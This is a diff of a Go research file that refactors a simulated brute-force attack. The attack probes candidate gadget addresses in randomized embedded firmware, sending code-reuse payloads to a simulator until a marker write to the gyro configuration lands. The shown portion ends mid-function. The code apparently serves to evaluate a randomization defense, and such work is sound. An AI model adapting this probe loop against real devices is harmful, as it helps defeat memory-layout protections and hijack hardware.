@@ -1,9 +1,6 @@
 package attack
 
-import (
-	"mavr/internal/firmware"
-	"mavr/internal/gadget"
-)
+import "mavr/internal/gadget"
 
 // This file implements the §VIII-A derandomization experiment as an
 // end-to-end attack rather than an abstract model: an attacker who does
@@ -47,40 +44,11 @@ func (a *Analysis) AssumeWriteMem(c uint32) *Analysis {
 	return &trial
 }
 
-// probeOnce boots a fresh copy of image (the victim power-cycles after
-// each crashed probe), fires a V1-style probe built on the candidate
-// gadget, and reports whether the marker write landed.
-func probeOnce(image []byte, geom *Analysis, candidate uint32, marker byte) (bool, error) {
-	payload, err := BuildV1(geom.AssumeWriteMem(candidate), GyroCfgWrite(marker))
-	if err != nil {
-		return false, err
-	}
-	sim, err := NewSim(image)
-	if err != nil {
-		return false, err
-	}
-	_ = sim.Deliver(Frame(payload), 200_000)
-	return sim.CPU.Data[firmware.AddrGyroCfg] == marker, nil
-}
-
 // HuntFixedLayout probes candidates against a layout that never
 // changes (the §VIII-A software-only deployment): each miss is
 // eliminated forever, so the expected cost is half the candidate space.
 func HuntFixedLayout(image []byte, geom *Analysis, candidates []uint32, marker byte) (HuntResult, error) {
-	var res HuntResult
-	for _, c := range candidates {
-		res.Probes++
-		hit, err := probeOnce(image, geom, c, marker)
-		if err != nil {
-			return res, err
-		}
-		if hit {
-			res.Found = true
-			res.Addr = c
-			return res, nil
-		}
-	}
-	return res, nil
+	return hunt(func() ([]byte, error) { return image, nil }, geom, candidates, GyroCfgWrite(marker))
 }
 
 // HuntRerandomized probes candidates against a victim that
@@ -88,18 +56,32 @@ func HuntFixedLayout(image []byte, geom *Analysis, candidates []uint32, marker b
 // probe sees is freshly drawn, so eliminations don't accumulate.
 // nextImage must return the victim's image for the next probe.
 func HuntRerandomized(nextImage func() ([]byte, error), geom *Analysis, candidates []uint32, marker byte) (HuntResult, error) {
+	return hunt(nextImage, geom, candidates, GyroCfgWrite(marker))
+}
+
+// hunt is the probe loop of every campaign: for each candidate it
+// boots the image next returns (the victim power-cycles after each
+// crashed probe), fires a V1-grade probe built on the write_mem assumed
+// at the candidate, and stops at the first probe whose write lands.
+func hunt(next func() ([]byte, error), geom *Analysis, candidates []uint32, w Write) (HuntResult, error) {
 	var res HuntResult
+	var sim *Sim
 	for _, c := range candidates {
 		res.Probes++
-		image, err := nextImage()
+		image, err := next()
 		if err != nil {
 			return res, err
 		}
-		hit, err := probeOnce(image, geom, c, marker)
+		payload, err := BuildV1(geom.AssumeWriteMem(c), w)
 		if err != nil {
 			return res, err
 		}
-		if hit {
+		if sim == nil {
+			if sim, err = NewSim(image); err != nil {
+				return res, err
+			}
+		}
+		if probePayload(sim, image, payload, w).landed {
 			res.Found = true
 			res.Addr = c
 			return res, nil
